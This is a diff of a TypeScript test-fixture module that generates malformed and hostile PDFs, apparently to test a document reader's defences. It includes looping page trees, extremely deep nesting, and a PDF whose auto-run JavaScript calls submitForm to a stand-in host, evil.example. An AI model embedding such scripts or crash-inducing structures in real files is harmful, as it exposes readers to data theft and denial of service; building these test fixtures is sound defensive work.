@@ -1,5 +1,6 @@
 /** Files that no pupil means to drop, and some that are made to do harm. */
 import { deflateSync } from 'node:zlib';
+import { pdfOf } from './objects.ts';
 import { LINA } from './printed.ts';
 import { sheetOf, write } from './sheet.ts';
 import { v3Certificate } from './v3.ts';
@@ -64,7 +65,7 @@ export function archive(): Uint8Array<ArrayBuffer> {
 
 /** A tree of pages that contains itself. */
 export function loopingPages(): Uint8Array<ArrayBuffer> {
-  return fileOf([
+  return pdfOf([
     '<< /Type /Catalog /Pages 2 0 R >>',
     '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
     '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>',
@@ -75,7 +76,7 @@ export function loopingPages(): Uint8Array<ArrayBuffer> {
 export function withScript(): Uint8Array<ArrayBuffer> {
   const action =
     '<< /S /JavaScript /JS (app.alert\\("boo"\\); this.submitForm\\("https://evil.example"\\);) >>';
-  return fileOf([
+  return pdfOf([
     `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} /AA << /WC ${action} >> >>`,
     '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
     `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O ${action} >> /Contents 4 0 R >>`,
@@ -85,7 +86,7 @@ export function withScript(): Uint8Array<ArrayBuffer> {
 
 /** Arrays within arrays, deeper than any reader's stack. */
 export function deeplyNested(depth = 200_000): Uint8Array<ArrayBuffer> {
-  return fileOf([
+  return pdfOf([
     `<< /Type /Catalog /Pages 2 0 R /Extra ${'['.repeat(depth)}${']'.repeat(depth)} >>`,
     '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
     '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
@@ -103,7 +104,7 @@ export function endlessDrawing(times: number): Uint8Array<ArrayBuffer> {
 }
 
 function drawing(...commands: string[]): Uint8Array<ArrayBuffer> {
-  return fileOf([
+  return pdfOf([
     '<< /Type /Catalog /Pages 2 0 R >>',
     '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
     '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
@@ -115,18 +116,4 @@ function drawing(...commands: string[]): Uint8Array<ArrayBuffer> {
 function stream(head: string, content: string): string {
   const packed = deflateSync(ASCII.encode(content)).toString('latin1');
   return `<< ${head} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream`;
-}
-
-/** A PDF of these objects, numbered from 1; the first is the catalogue. */
-function fileOf(objects: readonly string[]): Uint8Array<ArrayBuffer> {
-  let file = '%PDF-1.4\n';
-  const offsets = objects.map((object, rank) => {
-    const offset = file.length;
-    file += `${rank + 1} 0 obj\n${object}\nendobj\n`;
-    return `${String(offset).padStart(10, '0')} 00000 n \n`;
-  });
-  const start = file.length;
-  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join('')}`;
-  file += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
-  return new Uint8Array(Buffer.from(file, 'latin1'));
 }
